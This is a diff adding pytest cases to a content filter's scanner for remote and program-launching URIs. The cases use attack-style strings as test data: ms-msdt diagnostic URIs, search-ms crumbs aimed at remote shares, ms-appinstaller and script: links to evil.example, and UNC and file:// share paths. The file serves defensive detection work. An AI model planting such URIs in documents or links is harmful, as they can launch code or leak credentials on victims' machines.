@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from contentfilter.scanners.remote import is_active, is_remote
+from contentfilter.scanners.remote import is_active, is_remote, is_share, starts_program
 
 
 @pytest.mark.parametrize(
@@ -39,3 +39,36 @@ def test_what_starts_something():
     assert is_active("ms-msdt:/id PCWDiagnostic")
     assert is_active(" MHTML:http://evil.example/")
     assert not is_active("https://fine.example/ms-msdt:")
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "ms-msdt:/id PCWDiagnostic", " MS-Officecmd:{}", "search-ms:query=x&crumb=location:\\\\192.0.2.1\\a",
+        "search:query=x&crumb=location:\\\\evil@80\\a", "ms-appinstaller:?source=https://evil.example/a.msix",
+        "script:http://evil.example/a.sct", "mhtml:http://evil.example/a!x-usc:http://evil.example/a",
+    ],
+)  # fmt: skip
+def test_what_nobody_writes_but_to_run_something(target: str):
+    assert starts_program(target)
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://fine.example/search-ms:", "search:trees", "mhtml:mid://00000028/", "ms-word:ofe|u|https://a.example/x",
+        "file://server/share/x.docx", "mailto:search-ms:@a.example", "https://a.example/?q=search:crumb",
+    ],
+)  # fmt: skip
+def test_what_is_written_for_other_ends(target: str):
+    assert not starts_program(target)
+
+
+@pytest.mark.parametrize("target", ["\\\\192.0.2.1\\a\\b", "file://evil@80/a/b", "FILE:////evil/a"])
+def test_shares(target: str):
+    assert is_share(target)
+
+
+@pytest.mark.parametrize("target", ["https://a.example/", "file:///C:/a", "ftp://a/b"])
+def test_no_shares(target: str):
+    assert not is_share(target)
